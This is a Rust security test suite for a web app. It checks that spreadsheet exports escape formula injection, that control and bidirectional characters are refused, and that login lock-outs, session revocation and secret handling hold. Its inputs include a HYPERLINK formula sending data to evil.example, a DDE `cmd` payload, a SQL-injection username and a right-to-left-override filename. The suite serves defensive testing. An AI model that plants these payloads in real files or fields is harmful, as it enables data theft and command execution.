//! Security hardening (issue 28): what a white-box review found beyond the black-box tests.

use std::io::Cursor;

use awc::http::Method;
use calamine::{Data, Reader, Xlsx};
use diesel::r2d2::ManageConnection;
use diesel::sql_types::BigInt;
use diesel::{QueryableByName, RunQueryDsl};
use serde_json::{json, Value};
use shuangbai::db::Manager;

use crate::helpers::{
    captured_logs, client_from, fresh_database, settings_for, Resp, TestApp, ADMIN, PASSWORD,
};

#[derive(QueryableByName)]
struct Count {
    #[diesel(sql_type = BigInt)]
    n: i64,
}

/// A count straight from the database, past the API.
fn count(app: &TestApp, sql: &str) -> i64 {
    let mut conn = Manager::new(app.database_url.clone(), "public")
        .connect()
        .expect("connect");
    diesel::sql_query(sql)
        .get_result::<Count>(&mut *conn)
        .expect("count")
        .n
}

/// A POST with an `Idempotency-Key`, the body sent as JSON or as a form.
async fn keyed(app: &TestApp, token: &str, path: &str, key: &str, body: Body<'_>) -> Resp {
    let req = app
        .request_as(Some(token), Method::POST, path)
        .insert_header(("idempotency-key", key));
    match body {
        Body::Json(v) => {
            let req = req.insert_header(("content-type", "application/json"));
            app.send(req, Some(v.to_string().into_bytes())).await
        }
        Body::Form(f) => {
            let req = req.insert_header(("content-type", "application/x-www-form-urlencoded"));
            app.send(req, Some(f.as_bytes().to_vec())).await
        }
        Body::None => app.send(req, None).await,
    }
}

enum Body<'a> {
    Json(&'a Value),
    Form(&'a str),
    None,
}

/// RFC 4180 fields of a CSV body (quoted fields with `""`, CRLF rows), after the BOM.
fn csv_cells(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = String::from_utf8(bytes.to_vec()).expect("utf-8");
    let text = text.trim_start_matches('\u{feff}');
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') if field.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') if chars.peek() == Some(&'\n') => {
                chars.next();
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    rows
}

fn xlsx_strings(bytes: &[u8]) -> Vec<String> {
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes.to_vec())).expect("an xlsx file");
    let sheet = book.worksheet_range("进度情况一览表").expect("the sheet");
    let formulas = book.worksheet_formula("进度情况一览表").expect("formulas");
    assert!(
        formulas.cells().all(|(_, _, f)| f.is_empty()),
        "the workbook holds no formula"
    );
    sheet
        .cells()
        .filter_map(|(_, _, c)| match c {
            Data::String(s) => Some(s.clone()),
            _ => None,
        })
        .collect()
}

/// The password grant, form-encoded, from a client address of the caller's choosing.
async fn login_from(app: &TestApp, ip: [u8; 4], username: &str, password: &str) -> Resp {
    let form = format!(
        "grant_type=password&username={username}&password={}",
        password.replace(' ', "+")
    );
    let req = client_from(ip)
        .post(app.url("/api/v1/auth/token"))
        .insert_header(("content-type", "application/x-www-form-urlencoded"));
    app.send(req, Some(form.into_bytes())).await
}

async fn refresh_from(app: &TestApp, ip: [u8; 4], token: &str) -> Resp {
    let req = client_from(ip)
        .post(app.url("/api/v1/auth/token"))
        .insert_header(("content-type", "application/x-www-form-urlencoded"));
    app.send(
        req,
        Some(format!("grant_type=refresh_token&refresh_token={token}").into_bytes()),
    )
    .await
}

fn text(r: &Resp, field: &str) -> String {
    r.body[field]
        .as_str()
        .unwrap_or_else(|| panic!("{field} in {}", r.body))
        .to_string()
}

/// The same app on a fresh database of the same backend, with settings adjusted.
async fn spawn_with(
    app: &TestApp,
    adjust: impl FnOnce(&mut shuangbai::config::Settings),
) -> TestApp {
    let (url, guard) = fresh_database(app.backend).expect("a database");
    TestApp::spawn_on(app.backend, url, guard, |u| {
        let mut s = settings_for(u);
        adjust(&mut s);
        s
    })
    .await
}

/// Distinct client addresses per backend, so the two runs of a test never share one.
fn address(app: &TestApp, last: u8) -> [u8; 4] {
    match app.backend {
        crate::helpers::Backend::Sqlite => [127, 0, 10, last],
        crate::helpers::Backend::Postgres => [127, 0, 20, last],
    }
}

const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?d="&C6,"详情")"#;

on_both_backends! {
    async fn csv_cells_that_would_be_formulas_are_written_as_text(app: TestApp) {
        let names = ["=1+2", "+SUM(1)", "-2+3", "@SUM(A1)"];
        let codes = ["445302", "445303", "445321", "445322"];
        let mut ids = Vec::new();
        for (code, name) in codes.iter().zip(names) {
            ids.push(app.county(code, name, "county").await);
        }
        app.post(
            "/api/v1/funding-requests",
            &json!({"county_id": ids[0], "fiscal_year": 2021, "title": "经费", "effective_on": "2021-05-10", "note": HYPERLINK}),
        )
        .await
        .expect(201);
        let title = "=cmd|' /C calc'!A0";
        let query = format!(
            "as_of=2021-06-09&title={}&issuing_unit=%40unit",
            title.replace('|', "%7C").replace(' ', "%20").replace('\'', "%27").replace('!', "%21").replace('=', "%3D")
        );
        let live = app.get(&format!("/api/v1/reports/progress?{query}&format=csv")).await.expect(200);
        let snapshot = app
            .post("/api/v1/reports/progress/snapshots", &json!({"as_of": "2021-06-09", "title": title, "issuing_unit": "@unit"}))
            .await
            .expect(201)
            .body;
        let frozen = app
            .get(&format!("/api/v1/reports/progress/snapshots/{}?format=csv", snapshot["id"]))
            .await
            .expect(200);
        for csv in [&live, &frozen] {
            let cells: Vec<String> = csv_cells(&csv.raw).into_iter().flatten().collect();
            for cell in &cells {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "a cell a spreadsheet would evaluate: {cell:?}"
                );
            }
            for name in names {
                assert!(cells.contains(&format!("'{name}")), "{name} kept as text");
            }
            assert!(cells.contains(&format!("'{HYPERLINK}")), "the note kept as text: {cells:?}");
            assert!(cells.contains(&format!("'{title}")), "the title kept as text");
        }
        // The workbook writes the same text as plain strings, unchanged.
        let xlsx = app.get(&format!("/api/v1/reports/progress?{query}&format=xlsx")).await.expect(200);
        let strings = xlsx_strings(&xlsx.raw);
        for text in names.iter().copied().chain([HYPERLINK, title]) {
            assert!(strings.iter().any(|s| s == text), "{text} as a string cell");
        }
    }

    async fn notes_with_control_characters_are_refused(app: TestApp) {
        let id = app.county("445302", "云城区", "county").await;
        let changes = format!("/api/v1/counties/{id}/plan-status-changes");
        for bad in ["\u{1b}[31m已出台", "已\u{0}出台", "方案\u{202E}txt.exe", "\u{2066}x\u{2069}", "a\u{85}b"] {
            let r = app
                .post(&changes, &json!({"stage": "issued", "effective_on": "2021-03-01", "note": bad}))
                .await
                .expect_problem(422);
            assert_eq!(r.error_fields(), vec!["note"], "{bad:?}");
            let r = app
                .post("/api/v1/funding-requests", &json!({"county_id": id, "fiscal_year": 2021, "title": "经费", "note": bad, "purpose": bad}))
                .await
                .expect_problem(422);
            let mut fields = r.error_fields();
            fields.sort();
            assert_eq!(fields, vec!["note", "purpose"], "{bad:?}");
            let r = app
                .post(&format!("/api/v1/counties/{id}/updates"), &json!({"county": {"plan_status": {"stage": "issued", "effective_on": "2021-03-01", "note": bad}}}))
                .await
                .expect_problem(422);
            assert_eq!(r.error_fields(), vec!["/county/plan_status/note"], "{bad:?}");
            // Names were already held to the rule; the right-to-left override now too.
            app.post("/api/v1/towns", &json!({"county_id": id, "name": format!("镇{bad}"), "code": "445302104", "kind": "town"}))
                .await
                .expect_problem(422);
        }
        assert_eq!(app.get(&changes).await.body, json!([]), "nothing stored");
        // Line breaks are fine in a note.
        let r = app
            .post(&changes, &json!({"stage": "issued", "effective_on": "2021-03-01", "note": "第一行\n第二行"}))
            .await
            .expect(201);
        assert_eq!(r.body["note"], "第一行\n第二行");
    }
}

on_both_backends! {
    async fn a_dry_run_and_then_the_real_run_with_one_key_is_refused_not_replayed(app: TestApp) {
        let id = app.county("445302", "云城区", "county").await;
        let token = app.admin_token.clone();
        let batch = json!({"towns": [{"code": "445302104", "name": "腰古镇", "kind": "town"}]});
        let path = format!("/api/v1/counties/{id}/updates");
        let dry = keyed(&app, &token, &format!("{path}?dry_run=true"), "sync-1", Body::Json(&batch)).await.expect(200);
        assert_eq!(dry.body["dry_run"], true);
        let real = keyed(&app, &token, &path, "sync-1", Body::Json(&batch)).await.expect_problem(422);
        assert_eq!(real.error_fields(), vec!["Idempotency-Key"]);
        assert!(real.header("idempotent-replayed").is_none(), "not the dry run's answer");
        assert_eq!(app.get("/api/v1/towns").await.body["total"], 0, "nothing written by either");
        // The dry run itself replays with its own query string; a new key applies the batch.
        let again = keyed(&app, &token, &format!("{path}?dry_run=true"), "sync-1", Body::Json(&batch)).await.expect(200);
        assert_eq!(again.header("idempotent-replayed").as_deref(), Some("true"));
        let applied = keyed(&app, &token, &path, "sync-2", Body::Json(&batch)).await.expect(200);
        assert_eq!(applied.body["dry_run"], false);
        assert_eq!(app.get("/api/v1/towns").await.body["total"], 1);
    }

    async fn no_secret_or_token_is_ever_stored_with_an_idempotency_key_however_the_path_is_spelt(app: TestApp) {
        let id = app.county("445302", "云城区", "county").await;
        let admin = app.admin_token.clone();
        let client = json!({"name": "脚本", "county_id": id});
        let no_store = |r: &Resp| {
            assert_eq!(r.header("cache-control").as_deref(), Some("no-store"), "{}", r.body);
            assert!(r.header("idempotent-replayed").is_none());
        };
        let mut secrets = Vec::new();
        for path in ["/api/v1/clients", "/api/v1/%63lients", "/api/%761/clients"] {
            for _ in 0..2 {
                let r = keyed(&app, &admin, path, "secret-key", Body::Json(&client)).await.expect(201);
                no_store(&r);
                secrets.push(r.body["client_secret"].as_str().expect("secret").to_string());
            }
        }
        let clients = app.get("/api/v1/clients").await.expect(200).body;
        assert_eq!(clients["total"], 6, "each call created its own client");
        let client_id = clients["items"][0]["id"].as_i64().expect("id");
        assert!(client_id < 10, "spelt as %3N below");
        for path in [
            format!("/api/v1/clients/{client_id}/rotate-secret"),
            format!("/api/v1/%63lients/{client_id}/rotate-secret"),
            format!("/api/v1/clients/%3{client_id}/%72otate-secret"),
        ] {
            for _ in 0..2 {
                let r = keyed(&app, &admin, &path, "rotate-key", Body::None).await.expect(200);
                no_store(&r);
                secrets.push(r.body["client_secret"].as_str().expect("secret").to_string());
            }
        }
        let form = format!("grant_type=password&username={ADMIN}&password={}", PASSWORD.replace(' ', "+"));
        let mut refresh = Vec::new();
        for path in ["/api/v1/auth/token", "/api/v1/%61uth/token", "/api/v1/auth/%74oken"] {
            for _ in 0..2 {
                let r = keyed(&app, &admin, path, "token-key", Body::Form(&form)).await.expect(200);
                no_store(&r);
                refresh.push(r.body["refresh_token"].as_str().expect("refresh").to_string());
            }
        }
        for (i, path) in ["/api/v1/auth/revoke", "/api/v1/%61uth/revoke", "/api/v1/auth/%72evoke"].iter().enumerate() {
            let body = json!({"token": refresh[i]});
            let r = keyed(&app, &admin, path, "revoke-key", Body::Json(&body)).await.expect(200);
            no_store(&r);
        }
        secrets.extend(refresh);
        let unique: std::collections::HashSet<&String> = secrets.iter().collect();
        assert_eq!(unique.len(), secrets.len(), "no answer was replayed");
        assert_eq!(count(&app, "SELECT count(*) AS n FROM idempotency_keys"), 0, "nothing stored");
        // Keys still work where they should, whatever the spelling, in one scope.
        let town = json!({"county_id": id, "name": "腰古镇", "code": "445302104", "kind": "town"});
        keyed(&app, &admin, "/api/v1/towns", "town-key", Body::Json(&town)).await.expect(201);
        let replayed = keyed(&app, &admin, "/api/v1/%74owns", "town-key", Body::Json(&town)).await.expect(201);
        assert_eq!(replayed.header("idempotent-replayed").as_deref(), Some("true"));
        assert_eq!(count(&app, "SELECT count(*) AS n FROM idempotency_keys"), 1);
    }
}

on_both_backends! {
    async fn a_username_that_breaks_the_rule_is_refused_before_anything_is_stored(app: TestApp) {
        let huge = "a".repeat(1_000_000);
        for name in [huge.as_str(), "Robert'); DROP TABLE users;--", "李伟", "ab"] {
            let r = app.login(name, "wrong password!!").await.expect(400);
            assert_eq!(r.body["error"], "invalid_request", "{}", r.body);
        }
        let r = app.login(ADMIN, &"p".repeat(257)).await.expect(400);
        assert_eq!(r.body["error"], "invalid_request");
        assert_eq!(count(&app, "SELECT count(*) AS n FROM login_failures"), 0, "nothing stored");

        // A failure is stored by a hash of the name, and old ones are deleted as new ones come.
        diesel::sql_query("INSERT INTO login_failures (username_hash, address, failed_at) VALUES ('old', '', '2020-01-01 00:00:00')")
            .execute(&mut *Manager::new(app.database_url.clone(), "public").connect().expect("connect"))
            .expect("insert an old failure");
        app.login("Nobody.Here", "wrong password!!").await.expect(400);
        let hash = shuangbai::auth::hash_secret("nobody.here");
        assert_eq!(count(&app, &format!("SELECT count(*) AS n FROM login_failures WHERE username_hash = '{hash}' AND address = '127.0.0.1'")), 1);
        assert_eq!(count(&app, "SELECT count(*) AS n FROM login_failures"), 1, "the old row is gone");
        assert_eq!(count(&app, "SELECT count(*) AS n FROM login_failures WHERE username_hash LIKE '%nobody%'"), 0);
    }

    async fn the_right_password_from_another_address_gets_in_during_a_lock_out(app: TestApp) {
        let attacker = address(&app, 1);
        for _ in 0..5 {
            login_from(&app, attacker, ADMIN, "wrong password!!").await.expect(400);
        }
        login_from(&app, attacker, ADMIN, PASSWORD).await.expect_problem(429);
        let admin = login_from(&app, address(&app, 2), ADMIN, PASSWORD).await.expect(200);
        app.get_as(&text(&admin, "access_token"), "/api/v1/me").await.expect(200);
        login_from(&app, attacker, ADMIN, PASSWORD).await.expect_problem(429);

        // From every address together the bar is ten times higher, then the name is refused.
        let strict = spawn_with(&app, |s| s.login_max_failures = 2).await;
        for i in 0..10 {
            for _ in 0..2 {
                login_from(&strict, address(&app, 100 + i), ADMIN, "wrong password!!").await.expect(400);
            }
        }
        let r = login_from(&strict, address(&app, 200), ADMIN, PASSWORD).await.expect_problem(429);
        assert!(r.header("retry-after").is_some());
    }

    async fn guesses_sent_in_parallel_meet_the_same_bar_and_then_even_the_right_password_is_429(app: TestApp) {
        let attacker = address(&app, 3);
        let guesses = futures_util::future::join_all((0..20).map(|_| login_from(&app, attacker, ADMIN, "wrong password!!"))).await;
        let checked = guesses.iter().filter(|r| r.status == 400).count();
        let refused = guesses.iter().filter(|r| r.status == 429).count();
        assert_eq!(checked + refused, 20, "only 400s and 429s");
        assert!(checked <= 5, "{checked} guesses were checked in parallel; the bar is 5");
        // Locked: the right password gets the same 429 as a wrong one, so the lock-out tells nothing.
        let right = login_from(&app, attacker, ADMIN, PASSWORD).await.expect_problem(429);
        let wrong = login_from(&app, attacker, ADMIN, "another wrong one").await.expect_problem(429);
        assert_eq!(right.body["detail"], wrong.body["detail"]);
    }

    async fn logins_in_parallel_do_not_hold_up_writes(app: TestApp) {
        let started = std::time::Instant::now();
        let logins = futures_util::future::join_all((0..24).map(|_| app.login(ADMIN, PASSWORD)));
        let write = async {
            actix_web::rt::time::sleep(std::time::Duration::from_millis(20)).await;
            let at = std::time::Instant::now();
            app.post("/api/v1/counties", &json!({"division_code": "445302", "name": "云城区", "kind": "district"}))
                .await
                .expect(201);
            at.elapsed()
        };
        let (answers, write_took) = futures_util::future::join(logins, write).await;
        let storm = started.elapsed();
        for r in answers {
            r.expect(200);
        }
        assert!(
            write_took * 2 < storm,
            "a write during 24 logins took {write_took:?}, the logins {storm:?}: it waited for them"
        );
    }

    async fn an_access_token_is_refused_once_its_session_is_revoked(app: TestApp) {
        let first = app.login(ADMIN, PASSWORD).await.expect(200);
        let second = app.login(ADMIN, PASSWORD).await.expect(200);
        let access = text(&first, "access_token");
        app.get_as(&access, "/api/v1/me").await.expect(200);
        app.post_as(&access, "/api/v1/auth/revoke", &json!({"token": text(&first, "refresh_token")})).await.expect(200);
        app.get_as(&access, "/api/v1/me").await.expect_problem(401);
        refresh_from(&app, address(&app, 1), &text(&first, "refresh_token")).await.expect(400);
        // Another session of the same user is not affected.
        app.get_as(&text(&second, "access_token"), "/api/v1/me").await.expect(200);

        // A reused refresh token ends its session's access tokens too, and says so in the log.
        captured_logs();
        let from = address(&app, 7);
        let rotated = refresh_from(&app, from, &text(&second, "refresh_token")).await.expect(200);
        let newest = text(&rotated, "access_token");
        app.get_as(&newest, "/api/v1/me").await.expect(200);
        let reuse = refresh_from(&app, from, &text(&second, "refresh_token")).await.expect(400);
        assert_eq!(reuse.body["error"], "invalid_grant");
        app.get_as(&newest, "/api/v1/me").await.expect_problem(401);
        app.get_as(&text(&second, "access_token"), "/api/v1/me").await.expect_problem(401);
        let from = format!("{}.{}.{}.{}", from[0], from[1], from[2], from[3]);
        assert!(
            captured_logs().iter().any(|l| l.starts_with("WARN refresh token reuse") && l.contains(&from)),
            "a warning names the reuse and its address"
        );
    }

    async fn a_session_ends_at_its_absolute_limit_however_often_it_is_refreshed(app: TestApp) {
        use shuangbai::db::accounts::SessionRow;
        use shuangbai::db::schema::{refresh_tokens, sessions};
        use diesel::{ExpressionMethods, QueryDsl, SelectableHelper};
        let short = spawn_with(&app, |s| s.session_max_days = 1).await;
        let login = short.login(ADMIN, PASSWORD).await.expect(200);
        let rotated = refresh_from(&short, address(&app, 1), &text(&login, "refresh_token")).await.expect(200);
        let mut conn = Manager::new(short.database_url.clone(), "public").connect().expect("connect");
        let all: Vec<SessionRow> = sessions::table
            .select(SessionRow::as_select())
            .load(&mut *conn)
            .expect("sessions");
        assert_eq!(all.len(), 2, "the app's first login and this one");
        for session in all {
            assert_eq!(session.expires_at - session.started_at, chrono::Duration::days(1));
            let latest: chrono::NaiveDateTime = refresh_tokens::table
                .filter(refresh_tokens::family.eq(&session.id))
                .select(diesel::dsl::max(refresh_tokens::expires_at))
                .first::<Option<chrono::NaiveDateTime>>(&mut *conn)
                .expect("refresh tokens")
                .expect("some");
            assert!(latest <= session.expires_at, "a refresh token never outlives its session");
        }
        // The day passes.
        let ended = shuangbai::clock::now() - chrono::Duration::seconds(1);
        diesel::update(sessions::table).set(sessions::expires_at.eq(ended)).execute(&mut *conn).expect("end");
        let r = refresh_from(&short, address(&app, 1), &text(&rotated, "refresh_token")).await.expect(400);
        assert_eq!(r.body["error"], "invalid_grant");
        short.get_as(&text(&rotated, "access_token"), "/api/v1/me").await.expect_problem(401);
        // A new login starts a new session.
        let again = short.login(ADMIN, PASSWORD).await.expect(200);
        short.get_as(&text(&again, "access_token"), "/api/v1/me").await.expect(200);
    }

    async fn common_passwords_are_refused(app: TestApp) {
        for password in ["Password1234", "qwertyuiop123", "woaini1314520", "1qaz2wsx3edc"] {
            let r = app
                .post("/api/v1/users", &json!({"username": "wang.fang", "display_name": "王芳", "role": "viewer", "password": password}))
                .await
                .expect_problem(422);
            assert_eq!(r.error_fields(), vec!["password"], "{password}");
        }
        let created = app
            .post("/api/v1/users", &json!({"username": "wang.fang", "display_name": "王芳", "role": "viewer", "password": PASSWORD}))
            .await
            .expect(201);
        let path = format!("/api/v1/users/{}", created.body["id"]);
        app.patch(&path, Some("\"1\""), &json!({"password": "administrator"})).await.expect_problem(422);
    }

    async fn the_command_line_leaves_audit_events(app: TestApp) {
        let url = match &app.database_url {
            shuangbai::db::DatabaseUrl::Postgres(url) => url.clone(),
            shuangbai::db::DatabaseUrl::Sqlite(path) => format!("sqlite://{}", path.display()),
        };
        let run = |args: &[&str], password: Option<&str>| {
            let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_shuangbai"));
            cmd.args(args)
                .env("DATABASE_URL", &url)
                .env("SHUANGBAI_JWT_SECRET", "a-secret-for-the-command-line-that-is-long")
                .env("USER", "ops.li")
                .env_remove("SHUANGBAI_PASSWORD")
                .env("RUST_LOG", "warn");
            if let Some(pw) = password {
                cmd.env("SHUANGBAI_PASSWORD", pw);
            }
            let out = cmd.output().expect("runs");
            (out.status.success(), String::from_utf8_lossy(&out.stderr).to_string())
        };
        let (ok, err) = run(&["user", "add", "cli.made", "--role", "viewer"], Some("password1234"));
        assert!(!ok && err.contains("common"), "{err}");
        let (ok, err) = run(&["user", "add", "cli.made", "--role", "viewer"], Some(PASSWORD));
        assert!(ok, "{err}");
        let (ok, err) = run(&["user", "set-password", "cli.made"], Some("another long passphrase"));
        assert!(ok, "{err}");
        let (ok, err) = run(&["user", "deactivate", "cli.made"], None);
        assert!(ok, "{err}");
        let events = app.get("/api/v1/audit-events?entity=user&actor=cli:ops.li").await.expect(200).body;
        let mut actions: Vec<&str> = events["items"].as_array().expect("items").iter().map(|e| e["action"].as_str().expect("action")).collect();
        actions.reverse();
        assert_eq!(actions, vec!["create", "set_password", "deactivate"]);
        let user_id = &events["items"][0]["entity_id"];
        assert!(events["items"].as_array().expect("items").iter().all(|e| &e["entity_id"] == user_id));
        assert_eq!(events["items"][0]["after"]["active"], false);
        assert_eq!(events["items"][0]["before"]["active"], true);
        let text = events.to_string();
        assert!(!text.contains("argon2") && !text.contains("password_hash") && !text.contains("another long"));
    }
}

#[cfg(unix)]
fn mode(path: &std::path::Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(path)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
        .permissions()
        .mode()
        & 0o777
}

/// The SQLite database, its WAL and shared memory, and the generated secret are the owner's
/// only, in a folder that is too; an existing database others could read is narrowed.
#[cfg(unix)]
#[actix_web::test]
async fn sqlite_files_are_created_owner_only() {
    use std::os::unix::fs::PermissionsExt;
    let root = std::env::temp_dir().join(format!(
        "sb_modes_{}",
        shuangbai::domain::random_token(8).to_lowercase()
    ));
    let dir = root.join("data");
    let path = dir.join("test.db");
    let url = shuangbai::db::DatabaseUrl::Sqlite(path.clone());
    let secret = shuangbai::config::dev_secret_beside(&path).expect("a secret is generated");
    let app = TestApp::spawn_on(
        crate::helpers::Backend::Sqlite,
        url.clone(),
        crate::helpers::DbGuard::Sqlite(path.clone()),
        move |u| {
            let mut s = settings_for(u);
            s.jwt_secret = secret;
            s
        },
    )
    .await;
    app.post(
        "/api/v1/counties",
        &json!({"division_code": "445302", "name": "云城区", "kind": "district"}),
    )
    .await
    .expect(201);
    assert_eq!(mode(&dir), 0o700, "the folder");
    for name in ["test.db", "test.db-wal", "test.db-shm", "jwt-secret"] {
        assert_eq!(mode(&dir.join(name)), 0o600, "{name}");
    }
    // A database made readable by others (an older version, a copy) is narrowed at start-up.
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    shuangbai::db::prepare(&url, "public").expect("prepared again");
    assert_eq!(mode(&path), 0o600);
    drop(app);
    let _ = std::fs::remove_dir_all(&root);
}

/// No message about the database prints a password, wherever the URL carries it.
#[test]
fn a_password_in_the_database_url_never_reaches_a_message() {
    for raw in [
        "postgres://app@127.0.0.1:1/sb?password=hunter2&connect_timeout=2",
        "postgres://app:hunter2@127.0.0.1:1/sb?connect_timeout=2",
        "postgresql://app@127.0.0.1:1/sb?sslpassword=hunter2&PassWord=hunter2&connect_timeout=2",
    ] {
        let url = shuangbai::db::DatabaseUrl::parse(raw).expect("a URL");
        let err = shuangbai::db::prepare(&url, "public").expect_err("nothing listens on port 1");
        assert!(err.contains("127.0.0.1:1"), "{err}");
        for shown in [err, url.redacted(), format!("{url:?}")] {
            assert!(!shown.contains("hunter2"), "{shown}");
        }
    }
}
